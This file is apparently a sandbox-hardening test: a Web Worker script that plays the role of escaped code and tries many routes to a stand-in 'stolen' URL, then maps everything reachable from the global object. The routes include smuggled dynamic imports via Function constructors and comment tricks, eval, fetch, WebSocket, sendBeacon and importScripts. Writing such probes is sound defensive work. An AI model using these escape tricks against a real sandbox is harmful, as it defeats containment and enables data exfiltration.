// Runs in the Worker in place of Python, as if it had got through to JavaScript, and looks for a way out.
addEventListener("message", ({ ports: [port] }) => {
globalThis.closeRealm?.();
const ways = {};
const tried = (name, attempt) => {
  try {
    const result = attempt();
    ways[name] = String(result).slice(0, 60);
    result?.catch?.(() => {});
  } catch (error) {
    ways[name] = `refused: ${error.name}`;
  }
};
const away = "https://example.org/stolen";
tried("spread in Function", () => Function(`[...import("${away}0")]`)());
tried("import in Function", () => Function(`return import("${away}1")`)());
tried("import with a comment", () => Function(`return import/**/("${away}2")`)());
tried("import in an async function", () => (async () => {}).constructor(`return import("${away}3")`)());
tried("import in a generator", () => (function* () {}).constructor(`yield import("${away}4")`)().next().value);
tried("import in a method", () => Reflect.construct(Function, [`return import("${away}5")`])());
tried("Function of a function", () => print.constructor(`return import("${away}6")`)());
tried("eval", () => eval(`import("${away}7")`));
tried("indirect eval", () => (0, eval)("1"));
tried("fetch", () => fetch(away));
tried("XMLHttpRequest", () => new XMLHttpRequest());
tried("importScripts", () => importScripts(`${away}8`));
tried("WebSocket", () => new WebSocket("wss://example.org"));
tried("EventSource", () => new EventSource(away));
tried("Worker", () => new Worker(away));
tried("indexedDB", () => indexedDB.open("x"));
tried("caches", () => caches.open("x"));
tried("storage", () => navigator.storage.getDirectory());
tried("beacon", () => navigator.sendBeacon(away));
tried("BroadcastChannel", () => new BroadcastChannel("x"));
tried("postMessage", () => postMessage("x"));
tried("setTimeout", () => setTimeout(`import("${away}9")`));
tried("location", () => {
  location.href = away;
  return location.href === away ? "moved" : "stays";
});
tried("prototype", () => Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.name);
tried("addEventListener", () => addEventListener("message", () => {}));
tried("event of an error", () => dispatchEvent(new ErrorEvent("error")));

// Everything that can be reached from the global object.
const reached = new Set();
const names = new Set();
const queue = [globalThis];
while (queue.length) {
  const value = queue.pop();
  if ((typeof value !== "object" && typeof value !== "function") || value === null || reached.has(value)) continue;
  reached.add(value);
  if (typeof value === "function") names.add(value.name);
  queue.push(Object.getPrototypeOf(value));
  for (const descriptor of Object.values(Object.getOwnPropertyDescriptors(value))) {
    queue.push(descriptor.value, descriptor.get, descriptor.set);
  }
}
port.postMessage({ id: 0, begun: { ways, names: [...names].sort() } });
});
